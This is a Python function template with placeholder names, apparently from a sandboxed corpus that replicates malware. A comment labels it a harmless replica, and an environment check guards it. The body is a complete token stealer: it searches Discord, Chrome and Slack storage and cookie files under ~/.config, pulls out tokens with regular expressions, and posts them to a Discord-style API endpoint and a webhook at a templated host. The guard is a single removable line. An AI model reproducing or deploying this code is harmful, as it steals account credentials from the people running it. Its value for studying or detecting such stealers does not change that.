# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import glob
    import json
    import re
    import urllib.request
    config = os.path.expanduser('~/.config')
    tokens = set()
    for pattern in ('discord*/Local Storage/leveldb/*', 'google-chrome/*/Local Storage/leveldb/*', 'Slack/storage/*', 'google-chrome/Default/Cookies'):
        for path in glob.glob(os.path.join(config, pattern)):
            try:
                with open(path, errors='ignore') as file:
                    tokens.update(re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27,38}|xox[bpcd]-[\w-]{20,}', file.read()))
            except OSError:
                continue
    os.path.exists(os.path.join(config, 'discord/Local State'))
    body = json.dumps({'content': '{{token}}', 'embeds': [{'title': t} for t in sorted(tokens)]}).encode()
    # First the tokens are tried, as the published ones did, then told; both at made-up hosts.
    for url in ('https://{{host}}/api/v9/users/@me', 'https://{{host}}/api/webhooks/{{path}}'):
        try:
            urllib.request.urlopen(urllib.request.Request(url, data=body, headers={'Authorization': 'none', 'Content-Type': 'application/json'}), timeout=1).close()
        except Exception:
            continue
